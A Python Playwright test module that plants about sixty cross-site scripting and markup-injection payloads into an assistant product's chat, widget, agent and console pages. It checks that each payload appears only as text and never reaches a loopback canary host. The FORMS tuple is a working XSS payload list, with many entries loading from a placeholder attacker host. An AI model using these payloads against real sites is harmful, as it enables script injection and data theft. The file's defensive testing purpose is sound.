"""Sixty attacks in four views, in a real browser: planted as whatever people and documents may say, and only words.

Every text is planted beforehand, as question, agent's message, quoted document, reason of a thumb and title of a site.
A listener on loopback stands for the attacker's host: whatever was fetched or run would reach it.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass

import pytest
from playwright.sync_api import Browser, Page, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from assistant.build import Rungs
from assistant.types import Answer, Attempt, Citation, Draft, Evidence, Question, Trace
from assistant.types import Route as Way
from knowledge.types import Hit, Passage
from tests.ui import browsing
from tests.ui.chat.test_browser import TRUSTED, site
from tests.ui.console.consoles import open_tab
from tests.ui.widget.hosting import Host, calling, hosting, listening
from ui.widget.sites import Site, Sites
from ui.widget.visitor_tokens import VisitorTokens

pytestmark = [
    pytest.mark.browser,
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting'"),  # gradio's queue counts with pandas
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]
WAIT = 60_000
FORMS = (  # each for one way of a page to fetch or run something
    "<script>window.hit=1</script>", "<script src=CANARY/x.js></script>", "<img src=CANARY/x.png>",
    "<img src=x onerror=window.hit=1>", '<img srcset="CANARY/x.png 1x">', "<IMG SRC=`CANARY/x.png`>",
    "<picture><source srcset=CANARY/x.png><img></picture>", "<svg onload=window.hit=1>",
    "<svg><image href=CANARY/x.png /></svg>", "<svg><use href='CANARY/x.svg#a'/></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>", "<svg><script>window.hit=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>", "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>", "<video src=CANARY/x.mp4 autoplay></video>",
    "<video poster=CANARY/x.png></video>", "<audio src=CANARY/x.mp3 autoplay></audio>",
    "<iframe src=CANARY/x.html></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>", "<object data=CANARY/x.swf></object>",
    "<embed src=CANARY/x.swf>", "<input autofocus onfocus=window.hit=1>", "<input type=image src=CANARY/x.png>",
    "<a href=javascript:window.hit=1>x</a>", "<a href=x ping=CANARY/ping>x</a>", "<base href=CANARY/>",
    "<meta http-equiv=refresh content='0;url=CANARY/'>", "<link rel=stylesheet href=CANARY/x.css>",
    "<link rel=prefetch href=CANARY/x>", "<link rel=dns-prefetch href=CANARY>",
    "<style>@import 'CANARY/x.css';</style>",
    "<style>*{background:url(CANARY/x.png)}</style>", "<div style='background:url(CANARY/x.png)'>x</div>",
    "<table background=CANARY/x.png><tr><td>x</table>", "<textarea></textarea><img src=CANARY/x.png>",
    "<title></title><img src=CANARY/x.png>", "<noscript><p title='</noscript><img src=CANARY/x.png>'>",
    "<!--><img src=CANARY/x.png>-->", "</script><script>window.hit=1</script>", '"><img src=CANARY/x.png>',
    "'><img src=x onerror=window.hit=1>", "&lt;img src=CANARY/x.png&gt;", "&#60;img src=x onerror=window.hit=1&#62;",
    "![x](CANARY/x.png)", "![x][r]\n\n[r]: CANARY/x.png", '![x](<CANARY/x.png> "t")', "[![x](CANARY/x.png)](CANARY)",
    "[x](javascript:window.hit=1)", "[x](JaVaScRiPt&#58;window.hit=1)", "[x][j]\n\n[j]: javascript:window.hit=1",
    "<CANARY/auto>", "CANARY/bare", "<javascript:window.hit=1>", "`<img src=CANARY/x.png>`",
    "```html\n<img src=CANARY/x.png>\n```", "${window.hit=1}", "{{constructor.constructor('window.hit=1')()}}",
    "{% raw %}<img src=CANARY/x.png>", "$$\\href{javascript:window.hit=1}{x}$$", "$\\includegraphics{CANARY/x.png}$",
    "\u202e<img src=CANARY/x.png>\u202c", "<i\u200bmg src=CANARY/x.png>", "\uff1cimg src=CANARY/x.png\uff1e",
    "<img/src=CANARY/x.png/onerror=window.hit=1>", "java\tscript:window.hit=1",
)  # fmt: skip
SECRET = "a visitor's secret of the widget"
CHAT_VISITOR = "a" * 32
AGENT = FORMS[3]
"""The agent's name is an attack, too."""
WATCH = """
window.violations = [];
addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective + event.blockedURI));
"""
ARMED = """(canary) => {
  const found = [], names = /^(on|src|href|xlink:href|data$|poster|ping|background|style|action|formaction|content$)/;
  const armed = (value) => value.includes(canary) || /(window|parent)\\.hit/.test(value);
  const look = (root) => root.querySelectorAll("*").forEach((node) => {
    for (const { name, value } of node.attributes) if (names.test(name) && armed(value)) found.push(name + value);
    if (/^(SCRIPT|STYLE)$/i.test(node.tagName) && armed(node.textContent.slice(0, 200))) found.push(node.outerHTML);
    if (node.shadowRoot) look(node.shadowRoot);
  });
  look(document);
  return found;
}"""
"""Every element that a page's own policy may have kept from acting, and which is there all the same."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsing.chromium() as found:
        yield found


@pytest.fixture(scope="module")
def canary() -> Iterator[tuple[str, list[str]]]:
    """The attacker's host, and what was asked of it."""
    reached: list[str] = []

    def note(request: Request) -> Response:
        reached.append(str(request.url))
        return Response("window.hit=1", media_type="text/javascript")

    with listening(Starlette(routes=[Route("/{path:path}", note, methods=["GET", "POST"])])) as port:
        yield f"http://127.0.0.1:{port}", reached


@pytest.fixture(scope="module")
def attacks(canary: tuple[str, list[str]]) -> list[str]:
    return [form.replace("CANARY", canary[0]) for form in FORMS]


@dataclass(frozen=True, slots=True)
class Planted:
    """A server on which everything that was ever said is an attack."""

    rungs: Rungs
    url: str
    attacks: Sequence[str]
    chat: str
    """The chat visitor's conversation."""
    host: Host
    canary: str
    reached: list[str]

    @property
    def legible(self) -> Sequence[str]:
        """Some that are shown as they are wherever an answer's own code and bold are brought back."""
        return [attack for attack in self.attacks if "`" not in attack][:10]


@pytest.fixture(scope="module")
def planted(
    tmp_path_factory: pytest.TempPathFactory, canary: tuple[str, list[str]], attacks: list[str]
) -> Iterator[Planted]:
    assert len(set(attacks)) >= 60
    with site(tmp_path_factory.mktemp("attacks"), TRUSTED) as (rungs, url), hosting() as host:
        shop = _shop(rungs, host.url, [attack for attack in attacks if len(attack) <= 60])
        host.server, host.key = url, shop.key
        visitor, _ = VisitorTokens(rungs.engine, Sites(rungs.engine)).anonymous(shop, host.url, SECRET)
        plant(rungs, rungs.traces.open_conversation(visitor.id, "widget", site=shop.key), "widget", attacks)
        chat = rungs.traces.open_conversation(CHAT_VISITOR, "chat")
        plant(rungs, chat, "chat", attacks)
        yield Planted(rungs, url, attacks, chat, host, *canary)


def _shop(rungs: Rungs, origin: str, short: Sequence[str]) -> Site:
    look = {"title": short[0], "greeting": short[1], "suggestions": short[2:8]}
    return Sites(rungs.engine).add("shop", [origin], AGENT, look)


def plant(rungs: Rungs, conversation: str, surface: str, attacks: Sequence[str]) -> None:
    """Every attack as a question, an answer, a source, an agent's message and a note; then all in one answer."""
    handoff = rungs.desk.hand_off(conversation, "asked_for_person", "\n".join(attacks))
    rungs.desk.take(handoff.id, AGENT)
    for attack in attacks:
        answered(rungs, conversation, surface, attack, [attack])
        rungs.desk.say(conversation, "agent", AGENT, attack)
        rungs.desk.say(conversation, "note", AGENT, attack)
    whole = answered(rungs, conversation, surface, f"All of them: {AGENT}", attacks)
    for attack in attacks:
        rungs.traces.add_feedback(whole, -1, attack)


def answered(rungs: Rungs, conversation: str, surface: str, text: str, attacks: Sequence[str]) -> str:
    """A question whose whole record is made of attacks. Returns its trace's id."""
    asked, said = Question(text, conversation, surface=surface), "\n\n".join(attacks)
    cited = tuple(Citation(a, a, a, a, a, 1.0, f"p{n}", f"Before. {a} After.") for n, a in enumerate(attacks))
    hits = tuple(Hit(Passage(f"p{n}", a, a, a, a, a, n, uri=a), 1.0, 1.0) for n, a in enumerate(attacks))
    tried = (
        Attempt("prompting", failure=said, signals={attacks[0]: 1.0}),
        Attempt("rag", accepted=True, draft=Draft(said, cited), confidence=0.8, threshold=0.4),
    )
    evidence = Evidence(tuple(attacks), hits, degraded=said)
    versions = {f"{n} {attack}": attack for n, attack in enumerate(attacks)}
    answer = Answer(said, "answered", "rag", 0.8, cited, tuple(attacks))
    id = rungs.traces.begin(asked, versions)
    rungs.traces.finish(Trace(id, asked, evidence, Way(()), tried, answer, versions, 0.1, "2026-01-01T00:00:00+00:00"))
    return id


@contextmanager
def visiting(browser: Browser, planted: Planted, path: str) -> Iterator[Page]:
    """A page of the server; what happened on it is checked when it is left."""
    context = browser.new_context(viewport={"width": 1440, "height": 1000})
    context.set_default_timeout(WAIT)
    kept = {"rungs-visitor": CHAT_VISITOR, "rungs-conversation": planted.chat}
    script = f"for (const [name, value] of Object.entries({json.dumps(kept)})) localStorage.setItem(name, value);"
    context.add_init_script(WATCH + script)
    requested, wrong = list[str](), list[str]()
    context.on("request", lambda request: requested.append(request.url))
    context.on("page", lambda _: wrong.append("another window"))
    context.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page = context.new_page()
    wrong.clear()
    page.on("pageerror", lambda error: wrong.append(str(error)))
    try:
        page.goto(planted.url + path)
        yield page
        own = (f"{planted.url}/", "data:", "blob:")
        assert requested and [url for url in requested if not url.startswith(own)] == [] and wrong == []
        assert page.url.startswith(planted.url + path)
        _unharmed(page, planted)
    finally:
        context.close()


def _unharmed(page: Page, planted: Planted, links: Sequence[str] = ()) -> None:
    assert page.evaluate(ARMED, planted.canary) == list(links)
    assert page.evaluate("window.violations") == []
    assert all(frame.evaluate("window.hit") is None for frame in page.frames)
    assert planted.reached == []


def _said(texts: Sequence[str]) -> set[str]:
    """Texts as a page may break them into lines."""
    return {" ".join(text.split()) for text in texts}


def test_the_chat_page_shows_attacks_as_words(browser: Browser, planted: Planted) -> None:
    with visiting(browser, planted, "/") as page:
        questions = page.locator("#chat [data-testid=user]")
        expect(questions).to_have_count(len(planted.attacks) + 1)
        page.locator("#chat details").evaluate_all("all => all.forEach((one) => (one.open = true))")
        shown = _said(questions.all_inner_texts())
        assert [attack for attack in _said(planted.attacks) if attack not in shown] == []
        for attack in planted.legible:
            expect(page.locator("#chat .answer.person").filter(has_text=attack).first).to_be_visible()
            expect(page.locator("#chat .source .passage").filter(has_text=attack).first).to_be_visible()


def test_the_widget_shows_attacks_as_words_on_another_origin(browser: Browser, planted: Planted) -> None:
    kept = json.dumps({"visitor": SECRET})
    script = f"localStorage.setItem('rungs-widget:{planted.host.key}', {json.dumps(kept)});"
    with calling(browser, planted.host, script=script) as caller:
        caller.open()
        page = caller.page
        expect(page.locator(".entry.visitor .bubble")).to_have_count(len(planted.attacks) + 1)
        for kind in (".visitor", ".agent"):
            shown = _said(page.locator(f".entry{kind} .bubble").all_text_contents())
            plain = {attack for attack in planted.attacks if "`" not in attack and "\n" not in attack}
            assert [attack for attack in _said(sorted(plain)) if attack not in shown] == []
        for attack in planted.legible:
            expect(page.locator(".entry.agent").filter(has_text=attack).first).to_be_visible()
        for fold in page.locator(".entry.assistant summary").all()[:12]:
            fold.click()
        for attack in planted.legible:
            expect(page.locator(".sources blockquote").filter(has_text=attack).first).to_be_visible()
        # a source that has a web address of its own is linked, to be followed by hand: once where it is the only
        # source of an answer, once among all of them
        _unharmed(page, planted, [f"href{planted.canary}/bare"] * 2)


def test_the_agents_page_shows_attacks_as_words(browser: Browser, planted: Planted) -> None:
    with visiting(browser, planted, "/copilot/") as page:
        page.get_by_role("tab", name="Others").or_(page.get_by_label("Others")).first.click()
        page.locator(".desk-row").first.click()
        thread = page.locator(".desk-thread")
        expect(thread.locator(".desk-said.agent")).to_have_count(len(planted.attacks))
        for attack in planted.legible:
            for kind in ("visitor", "agent", "note"):
                expect(thread.locator(f".desk-said.{kind}").filter(has_text=attack).first).to_be_visible()
        expect(page.locator("#copilot-head .desk-note")).to_contain_text(planted.attacks[0])
        expect(page.locator("#copilot-head")).to_contain_text(AGENT)


def test_the_owners_page_shows_attacks_as_words_even_in_an_opened_trace(browser: Browser, planted: Planted) -> None:
    with visiting(browser, planted, "/console/") as page:
        open_tab(page, "Conversations")
        rows = page.locator("#questions tr:not(:has(td:text-is('copilot'))) button")  # the agent's page made a draft
        expect(rows).to_have_count(2 * (len(planted.attacks) + 1))
        shown = _said(rows.all_inner_texts())
        assert [attack for attack in _said(planted.attacks) if attack not in shown] == []
        rows.filter(has_text="All of them").first.click()
        story = page.locator("#trace .story")
        expect(story.locator(".rated")).to_have_count(len(planted.attacks))
        story.locator("details").evaluate_all("all => all.forEach((one) => (one.open = true))")
        expect(story.locator(".trace .passage").first).to_be_visible()
        for attack in planted.legible:
            expect(story.locator(".rated").filter(has_text=attack).first).to_be_visible()
            expect(story.locator(".source .passage").filter(has_text=attack).first).to_be_visible()
            expect(story.locator(".facts td").filter(has_text=attack).first).to_be_visible()
